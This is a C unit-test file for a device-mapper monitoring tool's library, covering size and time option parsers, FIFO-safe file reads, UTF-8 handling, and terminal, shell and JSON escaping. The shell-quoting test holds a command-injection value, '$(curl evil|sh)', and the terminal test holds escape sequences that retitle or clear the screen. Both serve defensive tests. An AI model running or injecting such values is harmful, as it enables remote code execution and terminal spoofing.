// SPDX-License-Identifier: GPL-2.0
/* lib/: the option parsers, the whole-file read and the clock every command shares. */
#include <errno.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
#include "test.h"
#include "lib/clock.h"
#include "lib/opts.h"
#include "lib/util.h"
#include "lib/width.h"

TEST(opts_size)
{
	uint64_t v;

	CHECK_INT(opt_size("64M", &v), 0);
	CHECK_INT(v, 64ull << 20);
	CHECK_INT(opt_size("512k", &v), 0);
	CHECK_INT(v, 512ull << 10);
	CHECK_INT(opt_size("1G", &v), 0);
	CHECK_INT(v, 1ull << 30);
	CHECK_INT(opt_size("2GiB", &v), 0);
	CHECK_INT(v, 2ull << 30);
	CHECK_INT(opt_size("4096", &v), 0);
	CHECK_INT(v, 4096);
	static const char *const bad[] = { "", "M", "-1M", "+5", "1.5M", "12X", "1MM",
					   "99999999999999999999", "20000000000T", " 1M" };
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
		if (opt_size(bad[i], &v) != -EINVAL)
			FAIL_AT("\"%s\" accepted", bad[i]);
}

TEST(opts_seconds_and_bounds)
{
	double v;
	long l;

	CHECK_INT(opt_seconds("1.5", 0, true, 3600, &v), 0);
	CHECK(v == 1.5);
	CHECK_INT(opt_seconds("0", 0, false, 10, &v), 0);
	CHECK_INT(opt_seconds("0", 0, true, 10, &v), -EINVAL);		/* (0, max] */
	CHECK_INT(opt_seconds("3601", 0, true, 3600, &v), -EINVAL);
	CHECK_INT(opt_seconds("1s", 0, true, 3600, &v), -EINVAL);		/* trailing junk */
	CHECK_INT(opt_seconds("", 0, true, 3600, &v), -EINVAL);
	CHECK_INT(opt_seconds(" 1", 0, true, 3600, &v), -EINVAL);
	CHECK_INT(opt_seconds("nan", 0, false, 3600, &v), -EINVAL);
	CHECK_INT(opt_seconds("1e999", 0, false, 1e9, &v), -EINVAL);
	CHECK_INT(opt_percent("95", &v), 0);
	CHECK_INT(opt_percent("100.1", &v), -EINVAL);
	CHECK_INT(opt_percent("0", &v), -EINVAL);
	CHECK_INT(opt_long("9", 1, 9, &l), 0);
	CHECK_INT((int)l, 9);
	CHECK_INT(opt_long("10", 1, 9, &l), -EINVAL);
	CHECK_INT(opt_long("3x", 1, 9, &l), -EINVAL);	/* atoi would have taken 3 */
	CHECK_INT(opt_long("", 1, 9, &l), -EINVAL);
	CHECK_INT(opt_long("99999999999999999999", 1, 9, &l), -EINVAL);
}

TEST(read_file_refuses_fifo_without_blocking)
{
	char dir[] = "/tmp/dmwatch-test-fifo.XXXXXX", *path, *buf = NULL;

	CHECK(mkdtemp(dir) != NULL);
	path = xasprintf("%s/fifo", dir);
	CHECK_INT(mkfifo(path, 0600), 0);
	/* no writer: a blocking open would hang here forever */
	CHECK_INT(read_file(path, &buf, NULL, 4096), -EINVAL);
	CHECK(buf == NULL);
	unlink(path);
	rmdir(dir);
	free(path);
}

TEST(format_time_utc)
{
	char buf[32];

	CHECK(!strcmp(format_time(buf, sizeof(buf), 0, "%Y-%m-%dT%H:%M:%SZ", true),
		      "1970-01-01T00:00:00Z"));
	CHECK(clock_ns(CLOCK_MONOTONIC) > 0);
}

#include "lib/escape.h"

static char *json_of(const char *s, size_t n)
{
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);

	json_escape(f, s, n);
	fclose(f);
	return out;
}

TEST(escape_terminal)
{
	char *e;

	e = term_escaped("pve-vm--100--disk--0");
	CHECK(!strcmp(e, "pve-vm--100--disk--0"));
	free(e);
	e = term_escaped("a\033]0;pwned\007b\nc\\d");
	CHECK(!strcmp(e, "a\\x1b]0;pwned\\x07b\\nc\\\\d"));
	free(e);
	e = term_escaped("\xc2\x9b" "2J \xff \xc3\xa9");	/* C1 CSI, a lone byte, é */
	CHECK(!strcmp(e, "\\xc2\\x9b2J \\xff \xc3\xa9"));
	free(e);
	CHECK(term_clean("vm-100-disk-0 \xc3\xa9"));
	CHECK(!term_clean("x\x7f"));
}

TEST(escape_shell)
{
	char *q;

	q = shell_quoted("pve/vm-100-disk-0");
	CHECK(!strcmp(q, "pve/vm-100-disk-0"));
	free(q);
	q = shell_quoted("x $(curl evil|sh)");
	CHECK(!strcmp(q, "'x $(curl evil|sh)'"));
	free(q);
	q = shell_quoted("it's");
	CHECK(!strcmp(q, "'it'\\''s'"));
	free(q);
	q = shell_quoted("a\033[2Jb'\\");
	CHECK(!strcmp(q, "$'a\\x1b[2Jb\\'\\\\'"));
	free(q);
	q = shell_quoted("");
	CHECK(!strcmp(q, "''"));
	free(q);
}

TEST(escape_json_utf8)
{
	char *j;

	j = json_of("a\"\\\n\001\377\xc3\xa9", 8);
	CHECK(!strcmp(j, "a\\\"\\\\\\n\\u0001\\ufffd\xc3\xa9"));
	free(j);
	/* overlong '/' and a UTF-16 surrogate are not UTF-8 */
	CHECK(!utf8_valid("\xc0\xaf", 2));
	CHECK(!utf8_valid("\xed\xa0\x80", 3));
	CHECK(utf8_valid("\xf0\x9f\x92\xbe", 4));
	CHECK(!utf8_valid("\xf4\x90\x80\x80", 4));
}

/* columns as a terminal draws them: wide characters 2, marks 0, escapes their own width */
TEST(width_columns)
{
	char *out = NULL;
	size_t len = 0, c;
	FILE *f;

	CHECK_INT(term_cols("pve-vm--100--disk--0"), 20);
	CHECK_INT(term_cols("虚拟机"), 6);			/* CJK: two each */
	CHECK_INT(term_cols("disk-🔥"), 7);			/* an emoji: two */
	CHECK_INT(term_cols("e\xcc\x81"), 1);			/* e + combining acute */
	CHECK_INT(term_cols("a\x1b" "b"), 6);			/* shown as \x1b */
	CHECK_INT(term_cols("a\nb"), 4);			/* shown as \n */
	CHECK_INT(term_cols("\xff"), 4);			/* not UTF-8: \xff */
	CHECK_INT(term_cols("\xc2\x9b"), 8);			/* C1 CSI: \xc2\x9b */
	/* a cut never splits a character nor straddles a wide one */
	CHECK_INT(term_cols_prefix("虚拟机", 3, &c), 3);
	CHECK_INT(c, 2);
	CHECK_INT(term_cols_prefix("ab虚", 4, &c), 5);
	CHECK_INT(c, 4);
	f = open_memstream(&out, &len);
	term_put_fit(f, "虚拟机名字", 6, true);		/* 10 columns into 6: 2 chars + ~ + pad */
	fputc('|', f);
	term_put_fit(f, "vm", 4, true);
	fputc('|', f);
	term_put_fit(f, "long-name", 5, false);
	fclose(f);
	CHECK_STR(out, "虚拟~ |vm  |long~");
	free(out);
}

/* the one digits-only decimal parser (dm status fields, uevent MAJOR / MINOR) */
TEST(lib_parse_digits_u64)
{
	static const char *const refused[] = {
		"", "-1", "+1", " 1", "1 ", "0x10", "1.5", "18446744073709551616",
		"99999999999999999999", "000000000000000000001",
	};
	uint64_t v = 7;

	CHECK(parse_digits_u64("0", 1, &v) && v == 0);
	CHECK(parse_digits_u64("18446744073709551615", 20, &v) && v == UINT64_MAX);
	/* only len bytes count: a token inside a longer line */
	CHECK(parse_digits_u64("253:4", 3, &v) && v == 253);
	for (size_t i = 0; i < ARRAY_SIZE(refused); i++)
		if (parse_digits_u64(refused[i], strlen(refused[i]), &v))
			FAIL_AT("'%s' taken as %llu", refused[i], (unsigned long long)v);
}

/* sysfs attributes and securityfs' lockdown: one line, newline cut */
TEST(lib_read_first_line)
{
	char dir[] = "/tmp/dmwatch-test-line.XXXXXX", buf[64], small[5];
	char *two, *empty;

	CHECK(mkdtemp(dir) != NULL);
	two = xasprintf("%s/two", dir);
	empty = xasprintf("%s/empty", dir);
	CHECK_INT(write_file_atomic(two, "pve-data\nsecond\n", 16, 0600), 0);
	CHECK_INT(write_file_atomic(empty, "", 0, 0600), 0);
	CHECK(read_first_line(two, buf, sizeof(buf)));
	CHECK_STR(buf, "pve-data");
	CHECK(read_first_line(two, small, sizeof(small)));
	CHECK_STR(small, "pve-");
	CHECK(!read_first_line(empty, buf, sizeof(buf)));
	unlink(two);
	CHECK(!read_first_line(two, buf, sizeof(buf)));
	unlink(empty);
	rmdir(dir);
	free(two);
	free(empty);
}
